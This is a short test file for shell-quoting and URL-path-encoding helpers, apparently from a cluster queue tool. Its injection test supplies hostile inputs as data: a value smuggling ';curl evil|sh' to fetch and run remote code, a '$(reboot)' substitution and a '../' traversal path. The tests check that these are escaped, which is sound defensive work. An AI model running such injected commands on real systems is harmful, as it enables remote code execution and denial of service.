import { expect, it } from "vitest";
import { path, quoted, sh } from "./shell";

it("leaves plain words as they are", () => {
  expect(quoted("root.research.team-a")).toBe("root.research.team-a");
  expect(sh`topo --slots ${"8xgpu:8"}`).toBe("topo --slots 8xgpu:8");
});

it("makes one word of whatever else is put in", () => {
  expect(sh`topo --slots ${"8xgpu:8';curl evil|sh\n"}`).toBe("topo --slots '8xgpu:8'\\'';curl evil|sh\n'");
  expect(sh`queue show ${""}`).toBe("queue show ''");
  expect(sh`why ${"$(reboot)"} -n ${"a b"}`).toBe("why '$(reboot)' -n 'a b'");
});

it("makes one part of a path of whatever is put in", () => {
  expect(path`/api/v1/queues/${"root.a"}`).toBe("/api/v1/queues/root.a");
  expect(path`/api/v1/queues/${"../x?y"}`).toBe("/api/v1/queues/..%2Fx%3Fy");
});
